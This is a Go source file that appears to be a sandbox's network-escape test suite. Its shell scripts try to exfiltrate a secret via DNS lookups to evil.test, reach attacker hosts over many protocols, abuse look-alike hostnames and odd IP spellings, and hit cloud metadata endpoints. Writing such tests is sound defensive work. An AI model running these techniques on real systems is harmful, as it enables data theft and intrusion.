//go:build linux

package escape

import "strings"

// Rules that many cases share, as flags of bailey create. Private addresses are never in them.
func allowing(rules ...string) (flags []string) {
	for _, r := range rules {
		flags = append(flags, "--allow", r)
	}
	return flags
}

// each does a line of a script for every word, which it knows as $X, all at the same time.
func each(line string, words ...string) string {
	var b strings.Builder
	for _, word := range words {
		b.WriteString("(X='" + word + "'; " + line + ") &\n")
	}
	return b.String() + "wait\n"
}

// Patterns of what the world may not see.
const (
	anything = `^(dns|packet|near) `
	inside   = `^near |^packet tcp (127\.|10\.|172\.16\.|192\.168\.|100\.|169\.254\.|168\.63\.|\[f)`
)

// networkCases attack the one road out: from other roads to what is spoken on it.
func networkCases() []attack {
	var all []attack
	for _, group := range [][]netAttack{roadAttacks(), nameAttacks(), addressAttacks(), requestAttacks(), tlsAttacks(), framingAttacks()} {
		for _, a := range group {
			all = append(all, a.attack())
		}
	}
	return append(all, networkOwnCases()...)
}

// roads is every kind of packet to the attacker.
const roads = `for a in $E [2a06:6666::66]; do for p in 80 443 22 8443; do $PROBE send tcp $a:$p hello & done; for p in 53 67 123 443 1900 5353; do $PROBE send udp $a:$p hello & done; done; wait
$GET http://$E/; $GET --connect-to ::$E:443 https://api.allowed.test/; $GET --interface lo http://$E/
true`

func roadAttacks() []netAttack {
	return []netAttack{
		{id: "other-roads", flags: allowing("api.allowed.test", "tcp:cdn.allowed.test:5432"), script: roads,
			works: "$GET http://api.allowed.test/ | grep WORLD && $PROBE half cdn.allowed.test:5432 64 | grep 'WHOLE 67108864' && echo WORKS"},
		{id: "other-roads-without-a-network", flags: []string{"--network", "none"}, script: roads + "; $GET http://api.allowed.test/; getent hosts evil.test", won: anything},
		{id: "other-roads-by-other-protocols", flags: allowing("api.allowed.test"), script: "$PROBE packets $E; ping -c1 -W1 $E"},
		{id: "own-routes-and-interfaces", flags: allowing("api.allowed.test"), script: "$PROBE rewire $E; $PROBE send tcp $E:80 hello; $PROBE packets $E",
			weaker: "$PROBE send tcp $E:80 hello", works: "$PROBE rewire $E; $GET http://api.allowed.test/ | grep WORLD && echo WORKS"},
		{id: "quic", flags: allowing("api.allowed.test"), won: `^packet udp .*:443 `, says: "(?i)alt-svc",
			script: "for i in 1 2 3; do $PROBE send udp api.allowed.test:443 QUIC; $PROBE send udp 45.91.1.1:443 QUIC; done; $GET -i https://api.allowed.test/",
			works:  "$GET https://api.allowed.test/ | grep WORLD && echo WORKS"},
	}
}

func nameAttacks() []netAttack {
	return []netAttack{
		{id: "look-alikes", flags: allowing("api.allowed.test", "*.wild.test"), won: anything,
			script: each("$GET http://$X/; $GET https://$X/; getent hosts $X", "evilapi.allowed.test", "api.allowed.test.evil.test", "apiXallowed.test", "api-allowed.test",
				"api.allowed.test@evil.test", "evil.test#api.allowed.test", "evil.test?api.allowed.test", "evil.test\\\\@api.allowed.testx", "wild.test", "wild.test.evil.test", "evilwild.test", "x.wild.test.evil.test",
				"xn--pi-7kc.allowed.test", "ap\u0456.allowed.test", "\uff41pi.allowed.testx", "api.allowed.test.evil"),
			works: "$GET http://API.Allowed.TEST/ http://api.allowed.test./ http://a.b.wild.test/ | grep -c WORLD | grep 3 && echo WORKS"},
		{id: "bytes-that-two-parsers-read-differently", flags: allowing("api.allowed.test", "*.wild.test"), won: `^(dns|packet) .*evil|^packet tcp 66|request .*evil`,
			script: `S=$(awk '/^nameserver/ { print $2; exit }' /etc/resolv.conf):53
for l in 'evil\x00' 'evil.test\x00' 'evil\r\n' 'evil\t' 'evil ' 'evil%00' 'evil\\' 'evil_' 'evil.' 'evil/' 'evil@' 'evil\xff'; do
$PROBE lookup $S 1 "$l" api allowed test; $PROBE lookup $S 1 "$l.wild" test; $PROBE lookup $S 1 evil test "$l" wild test; done
for h in 'evil.test\x00.wild.test' 'evil.test\r\nX: .wild.test' 'evil.test\t.wild.test' 'evil.test .wild.test' 'evil.test%00.wild.test' 'evil.test\\.wild.test' 'evil.test#.wild.test' 'evil.test,.wild.test' 'evil.test/.wild.test' 'evil.test@.wild.test' '.evil.test'; do
$PROBE send tcp x.wild.test:80 "GET / HTTP/1.1\r\nHost: $h\r\nConnection: close\r\n\r\n"; $PROBE send tls:x.wild.test x.wild.test:443 "GET / HTTP/1.1\r\nHost: $h\r\nConnection: close\r\n\r\n"
$PROBE send "tls:$(printf '%s' "$h")" x.wild.test:443 'GET /evil HTTP/1.1\r\nHost: x.wild.test\r\nConnection: close\r\n\r\n'; done`,
			works: "$GET http://x.wild.test/ | grep WORLD && echo WORKS"},
		{id: "exfiltration-by-lookup", flags: allowing("api.allowed.test"), won: `^dns |^packet udp`,
			script: `S=$(printf 'the secret' | od -An -tx1 | tr -d ' '); getent hosts $S.evil.test; getent ahosts $S.evil.test; $GET http://$S.evil.test/; $GET https://$S.api.allowed.test/; ping -c1 -W1 $S.evil.test
getent hosts $S.api.allowed.test; python3 -c "import socket; socket.gethostbyname('$S.evil.test')"; $PROBE send tcp $S.evil.test:80 x; getent hosts api.allowed.test; true`},
		{id: "other-resolvers", flags: allowing("api.allowed.test"), won: attacker + `|^packet udp |^dns`,
			script: `for s in $E 1.1.1.1 8.8.8.8 45.90.28.53; do $PROBE lookup $s:53 1 data evil test; $PROBE lookup $s:53 16 data evil test; done
$PROBE send tls:dns.google $E:853 hello; $GET https://$E/dns-query?dns=AAAB; $GET https://dns.google/dns-query?dns=evil; $PROBE send udp $E:853 DOQ
for a in 224.0.0.251:5353 224.0.0.252:5355 255.255.255.255:137 239.255.255.250:1900 [ff02::fb]:5353; do $PROBE send udp $a evil; done
(echo "nameserver $E" > /etc/resolv.conf) 2>/dev/null; getent hosts rewritten.evil.test; RES_OPTIONS=use-vc getent hosts tcp.evil.test`,
			weaker: `$PROBE lookup $E:53 1 data evil test; $PROBE send udp $E:853 DOQ; $GET https://dns.google/dns-query?dns=evil`},
	}
}

func addressAttacks() []netAttack {
	literals := []string{"127.1", "127.0.1", "0x7f.1", "0x7f000001", "0177.0.0.1", "2130706433", "0", "0.0.0.0", "127.0.0.1", "127.0.0.1.", "[::]", "[::1]", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[::7f00:1]",
		"[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]", "[2001:0:4136:e378:8000:63bf:3fff:fdd2]", "[fe80::1]", "[fe80::1%25eth0]", "255.255.255.255", "224.0.0.1", "45.90.28.2", "[2a0d:28::2]", "66.66.66.66", "1113735746", "0x42.66.66.66",
		"0102.66.66.66", "66.66.16962", "[2a06:6666::66]", "[2A06:6666:0::66]", "198.18.0.1", "198.19.255.255"}
	var pointing []string
	for _, a := range []string{"127-0-0-1", "127-1-2-3", "10-0-0-1", "172-16-0-1", "192-168-1-1", "100-64-0-1", "100-100-100-200", "169-254-169-254", "168-63-129-16", "45-90-28-2", "0-0-0-0", "198-18-0-1", "224-0-0-1", "255-255-255-255", "192-0-2-1"} {
		pointing = append(pointing, "v4-"+a)
	}
	for _, a := range []string{strings.Repeat("0", 31) + "1", "fd000ec2000000000000000000000254", "fe800000000000000000000000000001", "00000000000000000000ffff7f000001", "0064ff9b0000000000000000a9fea9fe",
		"20027f000001000000000000000000" + "00", "2a0d0028000000000000000000000002", strings.Repeat("0", 32)} {
		pointing = append(pointing, "v6-"+a)
	}
	return []netAttack{
		{id: "address-literals", flags: allowing("api.allowed.test"), won: `^near |^packet tcp`, script: each("$GET http://$X/; $GET https://$X/", literals...),
			works: "$GET http://api.allowed.test/ | grep WORLD && echo WORKS"},
		{id: "allowed-address-in-other-spellings", flags: allowing("66.66.66.67"), won: `^packet tcp (66\.66\.66\.66|\[)`,
			script: each("$GET http://$X/", "66.66.66.66", "1113735746", "0x42424242", "[::ffff:66.66.66.66]", "[2a06:6666::66]"), works: "$GET http://66.66.66.67/ | grep WORLD && echo WORKS"},
		{id: "allowed-names-that-point-inside", flags: allowing("*.in.test"), won: inside,
			script: each("$GET http://$X.in.test/; $GET https://$X.in.test/; $GET -p -x http://bailey.internal:3128 http://$X.in.test/", append(pointing, "cname")...),
			works:  "$GET http://v4-45-91-1-1.in.test/ | grep WORLD && echo WORKS"},
		{id: "rebinding", flags: allowing("flip.in.test", "two.in.test", "mixed.in.test", "cname.in.test"), won: inside,
			script: `for i in 1 2 3 4 5 6 7 8; do $GET http://flip.in.test/; $GET http://flip.in.test/ http://flip.in.test/again; $GET http://two.in.test/; $GET http://mixed.in.test/; $GET http://cname.in.test/; done`,
			works:  "$GET http://mixed.in.test/ | grep WORLD && echo WORKS"},
		{id: "metadata-and-host-services-under-allow-all", flags: []string{"--network", "allow"}, won: inside,
			script: each("$GET http://$X/latest/meta-data/; $GET -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://$X/latest/api/token; $PROBE send tcp $X:8080 hello", "169.254.169.254", "metadata.google.internal", "169.254.170.2", "[fd00:ec2::254]",
				"100.100.100.200", "127.0.0.1", "localhost", "10.0.0.1", "192.168.1.1", "172.16.0.1", "45.90.28.2", "host.docker.internal", "host.bailey.internal", "v4-169-254-169-254.in.test"),
			works: "$GET http://66.66.66.66/ | grep WORLD && echo WORKS"},
		{id: "other-ports-and-protocols-of-an-allowed-host", flags: allowing("api.allowed.test:443"), won: `^packet tcp|^raw`,
			script: `for p in 22 25 80 853 3389 5432 8443; do $PROBE send tcp api.allowed.test:$p hello & done
for t in 'SSH-2.0-x\r\n' 'EHLO evil\r\n' '\x03\x00\x00\x13\x0e\xe0' '\x01\x00\x00\x00wireguard' '\x00\x00\x00\x08\x04\xd2\x16\x2f' 'CONNECT api.allowed.test:22 HTTP/1.1\r\nHost: api.allowed.test:22\r\n\r\n' '\x05\x01\x00' '\x16\x03\x01\x00\x05hello'; do $PROBE send tcp api.allowed.test:443 "$t" & done; wait`,
			works: "$GET https://api.allowed.test/ | grep WORLD && echo WORKS"},
	}
}
